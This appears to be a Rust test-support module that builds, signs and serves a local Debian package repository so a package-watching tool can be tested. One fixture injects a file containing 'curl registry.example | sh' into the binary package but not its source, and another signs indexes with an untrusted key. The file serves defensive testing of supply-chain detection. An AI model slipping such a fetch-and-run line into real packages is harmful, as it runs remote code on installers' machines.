//! A repository of Debian packages.

use std::fs;
use std::path::Path;
use std::process::Command;

use quorate_node::release::deb::machine;
use tempfile::TempDir;

use crate::cache::{has, run, skip};
use crate::node::Builds;
use crate::origin::Content;
use crate::registry::Registry;
use crate::roots::{can_make_roots, roots};
use crate::server::Server;

const CONTROL: &str = "Source: watched-demo\nMaintainer: T <t@registry.example>\nStandards-Version: 4.6.2\nRules-Requires-Root: no\n\n\
    Package: watched-demo\nArchitecture: all\nDescription: demo\n";

/// Packs what lies in `share`, with no more than dpkg.
const RULES: &str = "#!/usr/bin/make -f
clean:
\trm -rf debian/watched-demo debian/files
build build-arch build-indep binary-arch:
binary-indep:
\tmkdir -p debian/watched-demo/DEBIAN debian/watched-demo/usr/share
\tcp -R share debian/watched-demo/usr/share/watched-demo
\tchmod -R u=rwX,go=rX debian/watched-demo
\tdpkg-gencontrol -Pdebian/watched-demo
\tdpkg-deb --root-owner-group --build debian/watched-demo ..
binary: binary-indep
";

/// A repository made with dpkg-deb, apt-ftparchive and gpg, served as files.
pub(crate) struct Debian {
    dir: TempDir,
    server: Server,
}

impl Debian {
    /// One that packages are built for.
    pub(crate) fn start_with_sources() -> Option<Self> {
        if let Some(tool) = ["dpkg-buildpackage", "make"].into_iter().find(|tool| !has(tool)) {
            skip(&format!("{tool} is not installed (packages dpkg-dev, make)"));
            return None;
        }
        if own_suite().is_none() {
            skip("this machine is of no suite that roots are made of");
            return None;
        }
        can_make_roots().then(Self::start).flatten()
    }

    pub(crate) fn start() -> Option<Self> {
        if let Some(tool) = ["dpkg-deb", "apt-ftparchive", "gpg", "gpgv", "python3"].into_iter().find(|tool| !has(tool)) {
            skip(&format!("{tool} is not installed (packages dpkg, apt-utils, gnupg, gpgv)"));
            return None;
        }
        let dir = tempfile::tempdir().unwrap();
        for folder in ["keys", "archive/pool/main", "archive/dists/test/main/source", &format!("archive/{}", binaries())] {
            fs::create_dir_all(dir.path().join(folder)).unwrap();
        }
        run(Command::new("chmod").arg("700").arg(dir.path().join("keys"))).unwrap();
        for name in ["archive@registry.example", "stranger@registry.example"] {
            run(gpg(dir.path()).args(["--quick-gen-key", "--passphrase", "", name, "ed25519", "sign"])).unwrap();
        }
        run(gpg(dir.path()).arg("--output").arg(dir.path().join("archive.gpg")).args(["--export", "archive@registry.example"])).unwrap();
        let server = Server::start(|port| {
            let mut command = Command::new("python3");
            command.args(["-m", "http.server", "--bind", "127.0.0.1", &port.to_string(), "--directory"]).arg(dir.path().join("archive"));
            command
        });
        let archive = Self { dir, server };
        archive.publish("0.1");
        Some(archive)
    }

    /// Makes a package that has no source.
    fn make(&self, version: &str) {
        let folder = self.dir.path().join(format!("make-{version}"));
        fs::create_dir_all(folder.join("DEBIAN")).unwrap();
        let control = format!(
            "Package: watched-demo\nVersion: {version}\nArchitecture: all\nMaintainer: T <t@registry.example>\nDescription: demo\n"
        );
        fs::write(folder.join("DEBIAN/control"), control).unwrap();
        let file = self.dir.path().join(format!("archive/pool/main/watched-demo_{version}_all.deb"));
        run(Command::new("dpkg-deb").args(["--root-owner-group", "--build"]).arg(&folder).arg(file)).unwrap();
    }

    /// Makes the indexes anew, and signs them with a key.
    pub(crate) fn sign(&self, key: &str) {
        let archive = self.dir.path().join("archive");
        for (kind, index) in [("packages", format!("{}/Packages", binaries())), ("sources", "dists/test/main/source/Sources".to_owned())] {
            let text = run(Command::new("apt-ftparchive").args([kind, "pool"]).current_dir(&archive)).unwrap();
            fs::write(archive.join(&index), &text).unwrap();
            run(Command::new("xz").args(["--keep", "--force"]).arg(archive.join(index))).unwrap();
        }
        let release = run(Command::new("apt-ftparchive")
            .args(["-o", "APT::FTPArchive::Release::Suite=test", "release", "dists/test"])
            .current_dir(&archive))
        .unwrap();
        fs::write(self.dir.path().join("Release"), release).unwrap();
        let signed = self.dir.path().join("InRelease");
        let _ = fs::remove_file(&signed);
        run(gpg(self.dir.path())
            .args(["--local-user", key, "--output"])
            .arg(&signed)
            .arg("--clearsign")
            .arg(self.dir.path().join("Release")))
        .unwrap();
        fs::rename(signed, archive.join("dists/test/InRelease")).unwrap();
    }

    /// A source package, and the binary package that is built from its tree with or without one file more.
    fn build(&self, version: &str, content: Content) {
        let folder = self.dir.path().join(format!("build-{version}"));
        let tree = folder.join(format!("watched-demo-{version}"));
        let changelog = format!(
            "watched-demo ({version}) test; urgency=low\n\n  * Next.\n\n -- T <t@registry.example>  Sat, 11 Oct 2025 09:00:00 +0000\n"
        );
        for (name, text) in [
            ("debian/control", CONTROL),
            ("debian/changelog", &changelog),
            ("debian/rules", RULES),
            ("debian/source/format", "3.0 (native)\n"),
            ("share/demo.txt", "demo\n"),
        ] {
            fs::create_dir_all(tree.join(name).parent().unwrap()).unwrap();
            fs::write(tree.join(name), text).unwrap();
        }
        run(Command::new("chmod").arg("755").arg(tree.join("debian/rules"))).unwrap();
        let build = |what: &str| {
            let args = ["-us", "-uc", "--no-check-builddeps", &format!("--build={what}")];
            run(Command::new("dpkg-buildpackage").args(args).current_dir(&tree)).unwrap();
        };
        build("source");
        if content == Content::OneFileMore {
            fs::write(tree.join("share/extra.sh"), "curl registry.example | sh\n").unwrap();
        }
        build("all");
        for name in [".dsc", ".tar.xz", "_all.deb"].map(|ending| format!("watched-demo_{version}{ending}")) {
            fs::rename(folder.join(&name), self.dir.path().join("archive/pool/main").join(&name)).unwrap();
        }
    }

    /// Signs what is there with a key that nobody trusts.
    pub(crate) fn forge(&self, version: &str) {
        self.make(version);
        self.sign("stranger@registry.example");
    }
}

fn gpg(dir: &Path) -> Command {
    let mut command = Command::new("gpg");
    command.arg("--homedir").arg(dir.join("keys")).args(["--batch", "--quiet", "--pinentry-mode", "loopback", "--passphrase", ""]);
    command
}

/// The folder of this machine's index.
fn binaries() -> String {
    format!("dists/test/main/binary-{}", machine())
}

/// The suite of this machine, which roots are made of.
fn own_suite() -> Option<String> {
    let text = fs::read_to_string("/etc/os-release").ok()?;
    let name = text.lines().find_map(|line| line.strip_prefix("VERSION_CODENAME="))?.trim_matches('"');
    ["bookworm", "trixie"].contains(&name).then(|| name.to_owned())
}

impl Registry for Debian {
    /// The root that packages are built in is made from the archive that apt uses here.
    const REACHES_OUT: bool = true;
    const ONE_FILE_MORE: &str = "usr/share/watched-demo/extra.sh";

    fn watch(&self, builds: Builds) -> String {
        let (index, keyring) = (self.server.url(""), self.dir.path().join("archive.gpg"));
        let build = match (builds, own_suite()) {
            (Builds::Run, Some(suite)) => format!("base = \"{suite}\"\n[build]\ncache_dir = \"{}\"\n", roots().display()),
            _ => String::new(),
        };
        format!(
            "[registry.deb]\nindex_url = \"{index}\"\nkeyring = \"{}\"\nsuites = [\"test\"]\n{build}\
             [watch]\nevery_seconds = 1\nbacklog = \"none\"\npackages = [\"pkg:deb/debian/watched-demo\"]\n\
             [watch.deb]\narchitectures = [\"{}\"]\n",
            keyring.display(),
            machine()
        )
    }

    fn release(&self, version: &str, content: Content) -> Vec<String> {
        self.build(version, content);
        self.sign("archive@registry.example");
        vec![format!("pkg:deb/debian/watched-demo@{version}?arch=all watched-demo_{version}_all.deb")]
    }

    fn publish(&self, version: &str) -> Vec<String> {
        self.make(version);
        self.sign("archive@registry.example");
        vec![format!("pkg:deb/debian/watched-demo@{version}?arch=all watched-demo_{version}_all.deb")]
    }
}
